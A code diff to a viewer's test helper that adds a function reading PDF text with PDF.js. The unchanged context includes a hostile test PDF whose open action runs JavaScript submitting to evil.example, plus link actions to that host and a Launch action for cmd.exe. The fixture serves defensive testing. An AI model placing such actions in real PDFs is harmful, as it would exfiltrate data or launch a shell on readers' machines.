@@ -1,4 +1,6 @@
-/** Writes PDFs for the tests of the viewer. */
+/** Writes PDFs for the tests of the viewer, and reads those that the browser prints. */
+import { resolve } from 'node:path';
+import { pathToFileURL } from 'node:url';
 
 interface PdfOptions {
   /** Added to the catalog of the document, such as an action that runs when it opens. */
@@ -86,4 +88,35 @@ export function createHostilePdf(): Buffer {
     catalog: `/OpenAction ${createAction('/S /JavaScript /JS (app.alert\\("opened"\\); this.submitForm\\("https://evil.example/collect"\\);)')} /AA << /WC ${createAction('/S /URI /URI (https://evil.example/closed)')} >>`,
     page: `/Annots [ << /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A ${createAction('/S /URI /URI (https://evil.example/link)')} >> << /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A ${createAction('/S /Launch /F (cmd.exe)')} >> ]`,
   });
+}
+
+/** The app's copy of PDF.js, in the build for Node. */
+const PDFJS = pathToFileURL(resolve('examples/chart/node_modules/pdfjs-dist/legacy/build/pdf.mjs')).href;
+
+interface PdfJs {
+  getDocument(options: { readonly data: Uint8Array; readonly verbosity: number }): {
+    readonly promise: Promise<{
+      readonly numPages: number;
+      getPage(number: number): Promise<{
+        getTextContent(): Promise<{ readonly items: readonly { readonly str?: string }[] }>;
+      }>;
+    }>;
+    destroy(): Promise<void>;
+  };
+}
+
+/** Returns the text of each page. */
+export async function readPdf(bytes: Uint8Array): Promise<string[]> {
+  // oxlint-disable-next-line typescript/no-unsafe-assignment -- its address is known only at run time
+  const { getDocument }: PdfJs = await import(PDFJS);
+  const loading = getDocument({ data: new Uint8Array(bytes), verbosity: 0 });
+  const pdf = await loading.promise;
+  const texts: string[] = [];
+  for (let number = 1; number <= pdf.numPages; number += 1) {
+    const page = await pdf.getPage(number);
+    const { items } = await page.getTextContent();
+    texts.push(items.map(({ str = '' }) => str).join(' '));
+  }
+  await loading.destroy();
+  return texts;
 }
